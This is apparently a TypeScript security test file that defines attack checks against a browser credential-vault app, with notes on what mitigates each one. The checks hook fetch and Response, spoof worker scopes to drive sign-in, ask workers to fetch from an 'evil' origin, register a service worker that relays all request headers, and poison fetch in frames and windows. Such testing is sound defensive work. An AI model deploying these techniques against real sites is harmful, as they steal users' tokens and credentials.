import type { Site } from '../../e2e/site.js'
import { type Check, inPage, MOMENTS } from '../check.js'

function hookAnswers() {
  hook(window, 'fetch')
  for (const name of ['text', 'json']) hook(Response.prototype, name)
}

/** Groups B, D and F: the same code in another realm, where the script was first. */
export const realms: Check[] = [
  {
    id: 'B6-import',
    title: 'replaces fetch and Response, imports the vault file into the page, and signs in with it',
    arm: hookAnswers,
    reap: async () => {
      const { default: vault } = await import(vaultUrl()).catch(() => ({}))
      take(vault)
      const json = JSON.stringify({ email: 'ada@example.com', password: 'correct horse' })
      await vault?.run('signIn', { credentials: { json }, by: undefined }).catch(() => {})
    },
    limit: inPage(),
  },
  {
    id: 'B6-pretend',
    title: 'pretends that the page is a shared worker, imports the vault file, and signs in over its port',
    arm: hookAnswers,
    reap: async () => {
      for (const name of ['SharedWorkerGlobalScope', 'WorkerGlobalScope'])
        Object.defineProperty(window, name, { value: Window, configurable: true })
      const isRunning = await import(`${vaultUrl()}&again`).then(
        () => true,
        () => false,
      )
      if (!isRunning) return
      const { port1, port2 } = new MessageChannel()
      const isAnswered = new Promise((resolve) => {
        port1.onmessage = ({ data }) => data.id === 1 && resolve(data)
        // A vault in the page does not listen to the port.
        setTimeout(resolve, 3_000)
      })
      dispatchEvent(new MessageEvent('connect', { ports: [port2] }))
      const json = JSON.stringify({ email: 'ada@example.com', password: 'correct horse' })
      port1.postMessage({ type: 'hello', version: 3, restored: false })
      const argument = { credentials: { json }, by: undefined }
      port1.postMessage({ type: 'run', id: 1, command: 'signIn', argument })
      await isAnswered
    },
    limit: inPage(),
  },
  {
    id: 'D4-own',
    title: 'starts workers from the vault file, and asks them for another origin',
    arm: () => hookGetter(MessageEvent.prototype, 'data'),
    reap: async ({ api, evil }) => {
      const url = vaultUrl()
      const shared = new SharedWorker(url, { type: 'module' })
      const worker = new Worker(url, { type: 'module' })
      for (const to of [shared.port, worker]) {
        const isAnswered = new Promise((resolve) => {
          // Without a vault file, no worker starts.
          shared.onerror = worker.onerror = resolve
          to.onmessage = ({ data }: MessageEvent) => {
            take(data)
            if (data.id === 2 && /failed|response/.test(data.type)) resolve(data)
          }
        })
        const ask = (id: number, url: string) => ({
          type: 'fetch',
          id,
          request: { url, init: { headers: [['x-probe', '1']] } },
          body: null,
        })
        to.postMessage({ type: 'hello', version: 3, restored: false, origins: [evil] })
        to.postMessage({ type: 'hello', version: 3, restored: false })
        to.postMessage(ask(1, `${evil}/port`))
        to.postMessage(ask(2, `${api}/api/v1/me`))
        await isAnswered
      }
    },
  },
  {
    id: 'D6-service-worker',
    title: 'registers a service worker that reads the headers of all requests',
    serve: (site: Site) => {
      const script = `
        addEventListener('install', () => skipWaiting())
        addEventListener('activate', (event) => event.waitUntil(clients.claim()))
        addEventListener('fetch', (event) => event.respondWith(report(event.request)))
        async function report(request) {
          const pages = await clients.matchAll({ includeUncontrolled: true, type: 'window' })
          for (const page of pages) page.postMessage([...request.headers])
          return fetch(request)
        }`
      site.overrides.set('/uploaded.js', (response) => {
        response.setHeader('content-type', 'text/javascript').end(script)
      })
    },
    arm: () => {
      navigator.serviceWorker.addEventListener('message', ({ data }) => take(data))
      navigator.serviceWorker.startMessages()
      void navigator.serviceWorker.register('/uploaded.js')
    },
    reap: async ({ api }) => {
      const { serviceWorker } = navigator
      if (!serviceWorker.controller)
        await new Promise((resolve) => serviceWorker.addEventListener('controllerchange', resolve))
      await auth.fetch(`${api}/api/v1/me`)
    },
    limit: {
      at: { shared: MOMENTS, worker: MOMENTS, page: MOMENTS },
      why: 'A service worker of the site gets every request of its pages and workers. A `worker-src` that names only the files of the vault prevents it.',
    },
  },
  {
    id: 'F3-frame',
    title: 'opens the app in a frame, and replaces fetch and Headers there before its scripts run',
    reap: ({ api }) => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      frame.src = '/?other'
      return poison(frame.contentWindow as Window, api)
    },
    limit: inPage(),
  },
  {
    id: 'F4-window',
    title: 'opens the app in a window, and replaces fetch and Headers there before its scripts run',
    reap: ({ api }) => poison(open('/?other') as Window, api),
    limit: inPage(),
  },
]
